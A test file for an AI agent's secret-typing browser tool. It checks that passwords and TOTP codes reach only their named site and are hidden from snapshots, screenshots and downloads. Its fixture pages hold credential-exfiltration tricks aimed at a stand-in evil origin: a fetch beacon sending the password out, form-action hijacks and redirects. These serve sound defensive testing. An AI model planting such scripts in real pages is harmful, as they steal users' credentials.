import { afterAll, beforeAll, expect, spyOn, test } from "bun:test";
import { readdir } from "node:fs/promises";
import type { Tool } from "../../core/tools/tool.ts";
import type { Browsing } from "../../machine/browser/browser.ts";
import { createSecrets, type NamedSecret, type Secrets } from "../../machine/secrets/secrets.ts";
import { type BrowsersForTest, browsersForTest } from "../../testing/browser/browsers.ts";
import { refOf } from "../../testing/browser/desk.ts";
import { contextForTest, riskContextForTest } from "../../testing/tool-context.ts";
import { createSnapshotStates } from "../observation/elements/snapshot-state.ts";
import { createGuard } from "../risk/guard.ts";
import { browserTools } from "./browser-tools.ts";
import { extractContent } from "./extract/extract-content.ts";
import { hidingSecrets, lookWithSecrets } from "./secrets/hide-secrets.ts";

const value = "correct-horse-9";
const received: string[] = [];
type Site = { readonly url: URL; stop(force: boolean): Promise<void> };
let bank: Site;
let evil: Site;
let kept: BrowsersForTest;

const field = (rest = "", label = "Password") => `<label>${label} <input type=password ${rest}></label>`;
const digits = (from: number, to: number, rest = "") =>
  Array.from({ length: to - from + 1 }, (_, n) => `<input aria-label="Digit ${from + n}" maxlength=1 ${rest}>`).join(
    "",
  );
const pages: Readonly<Record<string, string>> = {
  "/login": `<form method=post action=/in>${field("name=word")}<button>Sign in</button></form>`,
  "/code": `<form>${digits(1, 6)}</form>`,
  "/row": `<form>${digits(1, 1)}${digits(2, 2, "type=number")}${digits(3, 20)}</form>`,
  "/rows": `<form>${digits(1, 9)}</form><form action="EVIL/in" id=other>${digits(10, 20)}</form>`,
  "/echo": `<canvas width=300 height=200></canvas>${field('oninput="p.textContent = [...this.value].join(` `)"')}<p id=p></p><a id=a href="#x">Save</a>`,
  "/search": `<label>Password <input type=search></label><textarea aria-label="Your comment"></textarea>`,
  "/unmasks": field('onfocus="this.type = `text`"'),
  "/redirects": `<form id=f method=post action=/in>${field('onfocus="f.action = `EVIL/in`"')}</form>`,
  "/button": `<form method=post action=/in>${field()}<button formaction="EVIL/in">Sign in</button></form>`,
  "/clobbers": `<form method=post action="EVIL/in"><input name=action value=/in>${field()}</form>`,
  "/later": `<form id=f method=post action=/in>${field('name=word oninput="f.action = `EVIL/in`"')}</form>`,
  "/beacon": field('oninput="fetch(`EVIL/in`, { method: `POST`, body: btoa(this.value) })"'),
  "/leaves": `${field()}<script>setTimeout(() => { location = "EVIL/login" }, 400)</script>`,
  "/frames-evil": `<iframe src="EVIL/login" width=400 height=200></iframe>`,
  "/framed": `<iframe src="OTHER/login" width=400 height=200></iframe>`,
  "/sandboxed": `<iframe sandbox="allow-scripts allow-forms" src="/login" width=400 height=200></iframe>`,
};

function serve(): Site {
  return Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(request) {
      const { pathname, host } = new URL(request.url);
      if (request.method === "POST") received.push(`${host} ${await request.text()}`);
      const html = (pages[pathname] ?? "<h1>In</h1>").replaceAll("EVIL", evil.url.origin);
      const body = `<!doctype html>${html.replaceAll("OTHER", bank.url.origin)}`;
      return new Response(body, { headers: { "content-type": "text/html", "access-control-allow-origin": "*" } });
    },
  });
}

beforeAll(async () => {
  process.env.MANYHANDS_TEST_BANK = value;
  bank = serve();
  evil = serve();
  kept = await browsersForTest([bank.url.host, evil.url.host], { secretIn: (text) => newest?.heldIn(text) });
});
afterAll(async () => {
  delete process.env.MANYHANDS_TEST_BANK;
  await kept[Symbol.asyncDispose]();
  await Promise.all([bank.stop(true), evil.stop(true)]);
});

let count = 0;
let newest: Secrets | undefined;
/**
 * A conversation at a page, with the secret of the bank. Where nothing is typed, tests share one.
 */
async function at(path: string, rest: Partial<NamedSecret> = {}, origin = bank.url.origin, name = `c${++count}`) {
  const secrets = createSecrets([
    {
      ...{ name: "bank-password", kind: "password", sites: [bank.url.origin], principals: ["alice"], ask: false },
      source: { env: "MANYHANDS_TEST_BANK" },
      ...rest,
    },
  ]);
  newest = secrets;
  const { browsers } = kept;
  const looks = createSnapshotStates();
  const workspace = await kept.workspace(name);
  const browsing: Browsing = await kept.open(name);
  await browsing.active().page.goto(`${origin}${path}`);
  const guard = createGuard({ browsers, looks, scope: "task", trusted: [] });
  const tools: Tool[] = [
    ...browserTools({ browsers, looks, secrets }),
    extractContent({ browsers, pieceCharacters: 1_000 }),
  ].map((tool) => hidingSecrets(guard.over(tool), secrets));
  const context = contextForTest(workspace);
  const toolNamed = (tool: string) => tools.find((one) => one.name === `browser_${tool}`) as Tool;
  const options = { looks, vision: true, signal: context.signal };
  const see = async () => await lookWithSecrets(browsing, options, { secrets, workspace });
  const first = await see();
  const seen = first?.text ?? "";
  const fieldOf = async () => (await browsing.active().page.locator("input").first().inputValue()) ?? "";
  return {
    secrets,
    browsing,
    workspace,
    see,
    seen,
    first,
    signal: context.signal,
    fieldOf,
    call: (tool: string, input: object) => toolNamed(tool).call(input, context),
    type: (label = "Password", more: object = {}) =>
      toolNamed("type_secret").call({ ref: refOf(seen, label), secret: "bank-password", ...more }, context),
    risk: (said: readonly string[], more: object = {}) =>
      toolNamed("type_secret").risk?.(
        { ref: refOf(seen, "Password"), secret: "bank-password", submit: false, ...more },
        riskContextForTest(workspace, { said, takenIn: ["web"] }),
      ),
  };
}

test("a secret is typed and sent to its site, and the model sees its name and that the field is filled", async () => {
  const login = await at("/login");
  expect(login.seen).toContain("Secrets of this site, for browser_type_secret: bank-password (password)");
  const { text, isError } = await login.type("Password", { submit: true });
  expect(isError).toBe(false);
  expect(text).toMatch(/^Typed the secret bank-password into textbox "Password" \[e\d+\] and pressed Enter\./);
  expect(received.splice(0)).toEqual([`${bank.url.host} word=${value}`]);
  const again = await at("/login");
  await again.type();
  expect(await again.fieldOf()).toBe(value);
  expect((await again.see())?.text).toContain("•••");
}, 60_000);

test("a one-time code is typed into one field for each digit", async () => {
  process.env.MANYHANDS_TEST_SEED = "otpauth://totp/x?secret=GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ&period=4";
  const code = await at("/code", { kind: "totp", source: { env: "MANYHANDS_TEST_SEED" } });
  const periodAt = () => Math.floor(Date.now() / 4_000);
  const asked = periodAt();
  const { text } = await code.type("Digit 1");
  delete process.env.MANYHANDS_TEST_SEED;
  expect(text).toMatch(/It counts for \d+ s; after that, type it again\.$/);
  // It is not sent at once: the code that had begun would be over by the model's next turn.
  expect(periodAt()).toBeGreaterThan(asked);
  const written = `[...document.querySelectorAll("input")].map((one) => one.value).join("")`;
  expect(await code.browsing.active().page.evaluate(written)).toMatch(/^\d{6}$/);
  const seen = await code.see();
  expect(seen?.text.match(/•••/g)?.length).toBe(6);
}, 60_000);

test("a row of fields takes a secret only whole, within one form, and is asked for it until the task ends", async () => {
  const values = (selector: string) => `[...document.querySelectorAll("${selector}")].map((one) => one.value).join("")`;
  const row = await at("/row", { kind: "text" });
  using reveal = spyOn(row.secrets, "reveal");
  expect((await row.type("Digit 1")).text).toContain("does not take it");
  expect(reveal.mock.calls[0]?.[1]).toBe(row.signal);
  // The second field takes digits only: nothing stays in the first.
  expect(await row.browsing.active().page.evaluate(values("input"))).toBe("");
  const rows = await at("/rows", { kind: "text" });
  await rows.type("Digit 1");
  const page = rows.browsing.active().page;
  expect([await page.evaluate(values("#other input")), await rows.fieldOf()]).toEqual(["", value]);
}, 60_000);

test("nothing is typed or even read on a look-alike, in a frame of another or around it, or in a field that is not for passwords", async () => {
  const refusals: readonly [path: string, why: RegExp, origin?: string][] = [
    ["/login", /no secret "bank-password" for http:.*This site has none/s, evil.url.origin],
    ["/frames-evil", /no secret "bank-password" for/],
    ["/framed", /in a page or a frame of http.*not one of its sites/, evil.url.origin],
    ["/sandboxed", /in a page or a frame of null|no secret/],
    ["/search", /of the type "search"; a password goes into fields of the type password only/],
    ["/button", /form of .* is sent to http.*not one of its sites/],
    ["/clobbers", /form of .* is sent to http.*not one of its sites/],
  ];
  for (const [path, why, origin] of refusals) {
    const it = await at(path, {}, origin, "refused");
    const { text, isError } = await it.type();
    expect({ path, isError }).toEqual({ path, isError: true });
    expect(text).toMatch(why);
    expect(it.secrets.hasTyped()).toBe(false);
  }
  // What has become of a field since it was seen counts.
  for (const [change, why] of [
    ["style.opacity = 0", "is not visible"],
    ["style = 'width: 1px; padding: 0; border: 0'", "is not visible"],
    ["readOnly = true", "is disabled or read-only"],
    ["disabled = true", "is disabled or read-only"],
  ] as const) {
    const it = await at("/login", {}, undefined, "refused");
    await it.browsing.active().page.evaluate(`document.querySelector("input").${change}`);
    const { text, isError } = await it.type();
    expect({ change, isError, text }).toEqual({ change, isError: true, text: expect.stringContaining(why) });
    expect(it.secrets.hasTyped()).toBe(false);
  }
  const comment = await at("/search", {}, undefined, "refused");
  expect((await comment.type("Your comment")).text).toContain('of the type "textarea"');
  expect(received.splice(0)).toEqual([]);
}, 120_000);

test("what a page changes when the field gets the focus is seen before anything is written", async () => {
  for (const [path, why] of [
    ["/unmasks", /of the type "text"/],
    ["/redirects", /is sent to/],
  ] as const) {
    const it = await at(path, {}, undefined, "focus");
    expect((await it.type()).text).toMatch(why);
    expect(await it.fieldOf()).toBe("");
  }
}, 60_000);

test("a page that goes elsewhere while the secret is read gets nothing", async () => {
  const it = await at("/leaves", { source: { command: ["sh", "-c", `sleep 1.5; printf %s ${value}`] } });
  const { text, isError } = await it.type();
  expect(isError).toBe(true);
  expect(text).not.toContain(value);
  expect(new URL(it.browsing.active().page.url()).origin).toBe(evil.url.origin);
  expect(await it.fieldOf()).toBe("");
}, 60_000);

test("a form that is pointed elsewhere after the typing is not sent, and no script sends the value there", async () => {
  const later = await at("/later");
  const { text } = await later.type("Password", { submit: true });
  expect(`${text} ${(await later.see())?.text}`).toContain("held the secret bank-password");
  const beacon = await at("/beacon");
  await beacon.type();
  await beacon.see();
  expect(received.splice(0)).toEqual([]);
}, 60_000);

test("what a page shows of the value is replaced, in no picture, and in no file", async () => {
  const it = await at("/echo");
  await it.type();
  const seen = await it.see();
  expect(it.first?.images).toHaveLength(1);
  expect(seen?.text).toContain("[secret bank-password]");
  expect(seen?.images).toBeUndefined();
  const spaced = [...value].join(" ");
  expect(seen?.brief).toContain("[secret bank-password]");
  expect(seen?.brief).not.toContain(spaced);
  const page = it.browsing.active().page;
  await page.evaluate(
    `a.href = URL.createObjectURL(new Blob(["${value}"])); a.download = "it.txt"; document.title = "${value}"`,
  );
  const results = [
    await it.call("snapshot", {}),
    await it.call("snapshot", { full: true }),
    await it.call("extract_content", { goal: "everything" }),
    await it.call("screenshot", {}),
    await it.call("pdf", {}),
    await it.call("click_element", { ref: refOf(it.seen, "Save") }),
    await it.call("wait", { seconds: 1 }),
  ];
  const told = results.map(({ text, shows }) => `${text}\n${shows?.brief}`).join("\n");
  for (const form of [value, spaced]) expect(told).not.toContain(form);
  expect(told.match(/No picture was taken: the page shows the secret bank-password/g)?.length).toBe(2);
  expect(told).toContain('The download of "it.txt" could not be kept: It holds the secret bank-password.');
  const files = await readdir(it.workspace.root, { recursive: true });
  expect(files.filter((name) => /\.(?:png|pdf|txt)$/.test(name))).toEqual([]);
}, 60_000);

test("a person decides where the settings say so and on hosts nobody named, and of no other principal is anything typed", async () => {
  const named = [`Sign in on ${bank.url.origin}`];
  const login = (rest: Partial<NamedSecret> = {}) => at("/login", rest, undefined, "asked");
  expect(await (await login()).risk(named)).toBeUndefined();
  expect(await (await login({ ask: true })).risk(named)).toContain("Type the secret “bank-password” on");
  expect(await (await login()).risk(["Find a bank"])).toContain("a host you did not name");
  const bobs = await login({ principals: ["bob"] });
  expect(bobs.seen).not.toContain("bank-password");
  expect((await bobs.type()).text).toContain("This site has none");
}, 60_000);
